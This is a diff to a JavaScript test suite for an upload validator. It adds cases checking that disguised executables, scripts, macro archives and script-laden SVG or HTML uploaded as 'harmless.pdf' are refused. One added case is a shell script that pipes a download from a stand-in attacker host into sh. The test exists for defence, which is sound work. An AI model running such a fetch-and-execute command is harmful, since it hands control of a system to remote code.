@@ -193,8 +193,13 @@ describe('files', () => {
   test.each([
     ['the test file of virus scanners', 'X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*'],
     ['a program', 'MZ\u0090\u0000'],
+    ['a program of Linux', '\u007fELF\u0002\u0001'],
+    ['a script', '#!/bin/sh\ncurl https://evil.example | sh'],
     ['a page', '<html><script>alert(1)</script></html>'],
-  ])('of another kind are refused: %s', async (_, body) => {
+    ['a picture with a script', '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'],
+    ['a document with macros, in an archive', 'PK\u0003\u0004 word/vbaProject.bin'],
+    ['a page before the head of a PDF', `<script>alert(1)</script>${PDF}`],
+  ])('of another kind are refused, whatever their name and type say: %s', async (_, body) => {
     const answered = await upload('harmless.pdf', body);
     expect([answered.status, answered.json.errors]).toEqual([422, { file: ['The file must be a PDF, JPG or PNG.'] }]);
   });
